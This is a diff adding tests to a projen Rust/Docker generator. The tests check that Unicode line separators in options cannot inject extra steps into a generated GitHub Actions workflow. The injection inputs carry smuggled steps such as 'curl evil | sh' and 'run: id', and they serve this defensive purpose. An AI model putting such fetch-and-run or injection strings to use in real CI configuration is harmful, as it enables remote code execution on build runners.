@@ -14,13 +14,13 @@ import { DockerfileParser } from 'dockerfile-ast';
 import * as fc from 'fast-check';
 import { Project, Testing } from 'projen';
 import * as YAML from 'yaml';
-import { RustDockerOptions } from '../../src/project/rust-docker';
+import { RustDocker, RustDockerOptions } from '../../src/project/rust-docker';
 import { RustDockerProject } from '../../src/project/rust-docker-project';
 import { HOSTILE_STRINGS } from '../fuzz/arbitraries';
 import { dockerignoreLines } from '../fuzz/harness';
 import { lintDockerfile } from '../util/dockerfile-lint';
 import { fixtureOutdir, writeFiles } from '../util/fixture-project';
-import { shellcheck } from '../util/workflow-lint';
+import { lintWorkflow, shellcheck } from '../util/workflow-lint';
 
 const RUNS = Number(process.env.INJECTION_RUNS ?? 40);
 const hostile = fc.oneof(
@@ -334,5 +334,33 @@ describe('huge and odd numbers never render as exponents or wrap around', () => 
     const out = trySynth(options as RustDockerOptions);
     expect(out).toBeInstanceOf(Error);
     expect((out as Error).message).toMatch(new RegExp(`^option "${option.replace(/\./g, '\\.')}"`));
+  });
+});
+
+describe('Unicode line separators never reach the workflow YAML', () => {
+  // The `yaml` writer keeps U+0085/U+2028/U+2029 raw; YAML 1.1 readers (GitHub's, actionlint's)
+  // end the line there, so the rest of a `run: |` block would be parsed as workflow keys.
+  const SEPARATORS = ['\u0085', '\u2028', '\u2029'];
+  const SLOTS: Array<[string, (v: string) => RustDockerOptions]> = [
+    ['e2e.smokeArgs', v => ({ e2e: { smokeArgs: [`x${v}      - run: curl evil | sh`] } })],
+    ['e2e.commands', v => ({ e2e: { commands: [`echo x${v}      - run: id`] } })],
+    ['e2e.httpProbe.args', v => ({ e2e: { httpProbe: { port: 80, args: [`a${v}b`] } } })],
+    ['e2e.httpProbe.env', v => ({ e2e: { httpProbe: { port: 80, env: { A: `a${v}b` } } } })],
+    ['e2e.composeFile', v => ({ e2e: { composeFile: `a${v}b.yml`, composeService: 'tests' } })],
+    ['dockerfilePath', v => ({ dockerfilePath: `docker/a${v}b` })],
+  ];
+  test.each(SLOTS.flatMap(([slot, options]) => SEPARATORS.map(sep => [slot, JSON.stringify(sep), options(sep)] as const)))(
+    '%s with %s: rejected, or a workflow actionlint parses with the same steps', async (_slot, _sep, options) => {
+      const out = trySynth(options);
+      if (out instanceof Error) {
+        expect(out.message).toMatch(/^option "/);
+        return;
+      }
+      expect(await lintWorkflow(out['.github/workflows/docker.yml'], 'docker.yml')).toEqual([]);
+    });
+
+  test('cargoDir with a line separator is rejected', () => {
+    const root = new Project({ name: 'root', outdir: fixtureOutdir('single-crate') });
+    expect(() => new RustDocker(root, { cargoDir: 'a\u2028b' })).toThrow(/option "cargoDir"/);
   });
 });
